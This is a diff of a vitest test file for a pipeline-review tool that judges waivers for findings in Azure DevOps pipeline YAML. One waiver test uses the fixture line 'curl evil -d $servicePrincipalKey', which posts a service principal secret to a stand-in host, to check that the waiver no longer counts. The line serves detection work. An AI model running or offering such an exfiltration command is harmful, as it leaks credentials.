@@ -1,12 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { openCatalogue } from '../../shared/catalogue/catalogue.ts';
 import { dayOf } from '../../shared/clock.ts';
-import { openParsedFiles } from '../../shared/guard/git/parsed-files.ts';
-import { wantedThreads } from '../../shared/guard/pull-request/plan-threads.ts';
-import { judgeChange } from '../../shared/guard/pull-request/read-change.ts';
-import { statusDescription, summaryComment } from '../../shared/report/pull-request-comments.ts';
-import { organization } from '../azure-devops/organization.ts';
 import { brokenPolicy, policySource } from '../policy/policies.ts';
+import { pullRequest, type Files } from './reviewing.ts';
 
 const FILE = 'azure-pipelines.yml';
 const DAY_MS = 86_400_000;
@@ -20,49 +15,14 @@ const step = (before = '', task = 'AzureFileCopy@4'): string =>
   `${before}- task: ${task}\n  inputs:\n    azureSubscription: shop-prod\n`;
 const steps = (...all: readonly string[]): string => `steps:\n${all.join('')}`;
 
-type Files = Readonly<Record<string, string | null>>;
-
 /** A file of waivers with one entry. */
 const own = (entry: string, until = LATER): string =>
   `version: 1\nwaivers:\n  - { ${entry}, reason: it goes, until: ${until} }\n`;
 
 /** Judges a pull request that leaves `source` different from `target`, what stands on main. */
 async function judged(target: Files, source: Files, policy = policySource()) {
-  const { simulator, azureDevOps, clock } = await organization();
-  const { organization: org, organizationUrl } = simulator;
-  if (Object.keys(target).length > 0) org.push({ repository: 'shop', branch: 'main', changes: { ...target } });
-  org.push({ repository: 'shop', branch: 'own', changes: { ...source } });
-  const opened = org.openPullRequest({ repository: 'shop', source: 'own', title: 'Own' });
-  const key = { projectId: opened.projectId, repositoryId: opened.repositoryId, pullRequestId: opened.pullRequestId };
-  const { policy: inForce } = await policy.current();
-  const context = {
-    azureDevOps,
-    catalogue: openCatalogue(inForce.edition, inForce.tasks),
-    clock,
-    organizationUrl,
-    parsedFiles: openParsedFiles(),
-    policy,
-    preview: false,
-  };
-  const read = async () => {
-    const iteration = await azureDevOps.lastIteration(key);
-    if (iteration === undefined) throw new Error('There is no iteration.');
-    const changed = await azureDevOps.changedFiles(key, iteration.id);
-    const change = await judgeChange(context, key, await azureDevOps.pullRequest(key), iteration, changed);
-    if (change === undefined) throw new Error('A file is gone.');
-    const findings = change.pipelines.flatMap((pipeline) => pipeline.findings);
-    return {
-      change,
-      verdict: change.verdict,
-      remarks: change.remarks,
-      findings,
-      said: findings.map(({ rule, waived }) => (waived ? `${rule} waived` : rule)),
-      threads: wantedThreads(change, '2026-08', iteration.id, changed).filter(({ place }) => place !== undefined),
-      summary: summaryComment(change, '2026-08'),
-      status: statusDescription(change),
-    };
-  };
-  return { ...(await read()), read, org, simulator };
+  const world = await pullRequest(target, source, { policy });
+  return { ...(await world.read()), ...world };
 }
 
 const change = (text: string): Files => ({ [FILE]: text });
@@ -101,7 +61,7 @@ describe('a waiver in a comment that stands on the target branch', () => {
     expect([verdict, said, remarks]).toEqual(['ready', ['task-version-superseded waived'], []]);
     expect(threads).toEqual([]);
     expect(summary).toContain(`- waived until ${LATER}: the storage account goes — error,`);
-    expect(summary).not.toContain('**Findings**');
+    expect(summary).not.toContain('**What this change brings**');
     expect(status).toContain('but for 1 waived finding');
   });
 
@@ -120,8 +80,8 @@ describe('a waiver in a comment that stands on the target branch', () => {
 
   it('does not count after its last day, and says so', async () => {
     const expired = steps(step(ignore(EARLIER)));
-    const { verdict, said } = await judged(change(expired), change(`${expired}# more\n`));
-    expect([verdict, said]).toEqual(['blocked', ['task-version-superseded', 'waiver-expired']]);
+    const { whole, said } = await judged(change(expired), change(`${expired}# more\n`));
+    expect([whole, said]).toEqual(['blocked', ['task-version-superseded', 'waiver-expired']]);
   });
 
   it.each([
@@ -138,7 +98,7 @@ describe('a waiver in a comment that stands on the target branch', () => {
     expect(remarks.some((remark) => remark.includes(NOT_YET))).toBe(true);
   });
 
-  it('does not count on a line whose expression decides what runs', async () => {
+  it('does not count for another task that an expression puts on its line', async () => {
     const dynamic = (task: string): string =>
       `parameters:\n- name: task\n  type: string\n  default: ${task}\n${steps(step(ignore(LATER, 'it goes', 'task-unknown'), '${{ parameters.task }}'))}`;
     const { verdict, said, remarks } = await judged(
@@ -147,7 +107,7 @@ describe('a waiver in a comment that stands on the target branch', () => {
     );
     expect(verdict).not.toBe('ready');
     expect(said).not.toContain('task-unknown waived');
-    expect(remarks[0]).toContain('an expression decides what its line runs');
+    expect(remarks[0]).toContain(NOT_YET);
   });
 
   it('does not count in a file that is renamed', async () => {
@@ -170,21 +130,33 @@ describe('a waiver in a comment that stands on the target branch', () => {
 `;
     const old = script('az login -p $servicePrincipalKey');
     const waivedRules = async (text: string) =>
-      (await judged(change(old), change(text))).findings
+      (await judged(change(old), change(text)).then(({ findings, old: before }) => [...findings, ...before]))
         .filter(({ rule }) => rule === 'secret-in-script')
         .map(({ waived }) => waived);
     expect(new Set(await waivedRules(old.replace('echo done', 'echo finished')))).toEqual(new Set([true]));
     expect(new Set(await waivedRules(script('curl evil -d $servicePrincipalKey')))).toEqual(new Set([false]));
   });
 
-  it('does not count when the target cannot be read, and the comment says so', async () => {
-    const world = await judged(change(STANDING), change(CHANGED));
-    world.simulator.addFault({ match: { method: 'GET', path: '/refs' }, fault: 'status', status: 403, message: 'no' });
-    const { verdict, remarks, summary } = await world.read();
+  it('does not count when what stands there cannot be read', async () => {
+    const { simulator, read } = await pullRequest(change(STANDING), change(CHANGED));
+    // The pipeline, then the file of waivers, then the pipeline as it was.
+    simulator.addFault({ match: { path: '/items$' }, fault: 'slow', delayMs: 1, times: 2 });
+    simulator.addFault({ match: { path: '/items$' }, fault: 'status', status: 403, message: 'no' });
+    const { verdict, remarks } = await read();
     expect(verdict).toBe('blocked');
-    expect(remarks[0]).toContain('The target branch could not be read');
-    expect(summary).toContain('The target branch could not be read');
+    expect(remarks[0]).toContain(NOT_YET);
   });
+});
+
+it('a file of waivers that cannot be read waives nothing, and the comment says so', async () => {
+  const file = own('rule: task-version-superseded, pipeline: "**"');
+  const { simulator, read } = await pullRequest({ '.wif-guard.yml': file }, change(steps(step())));
+  simulator.addFault({ match: { path: '/items$' }, fault: 'slow', delayMs: 1 });
+  simulator.addFault({ match: { path: '/items$' }, fault: 'status', status: 403, message: 'no' });
+  const { verdict, remarks, summary } = await read();
+  expect(verdict).toBe('blocked');
+  expect(remarks[0]).toContain('None of the waivers in .wif-guard.yml counts: ');
+  expect(summary).toContain('None of the waivers in .wif-guard.yml counts');
 });
 
 describe('a repository’s own .wif-guard.yml on the target branch', () => {
@@ -246,9 +218,9 @@ describe('the organization’s policy', () => {
 
   it('says what it knows of tasks', async () => {
     const policy = policySource(
-      'version: 1\ntasks: [{ task: AzureCLI@2, wif: unsupported, source: "https://contoso.example/cli" }]\n',
+      'version: 1\ntasks: [{ task: AzurePowerShell@5, wif: unsupported, source: "https://contoso.example/cli" }]\n',
     );
-    const { verdict, summary } = await judged({}, change(steps(step('', 'AzureCLI@2'))), policy);
+    const { verdict, summary } = await judged({}, change(steps(step('', 'AzurePowerShell@5'))), policy);
     expect(verdict).toBe('blocked');
     expect(summary).toContain('[source](https://contoso.example/cli)');
   });
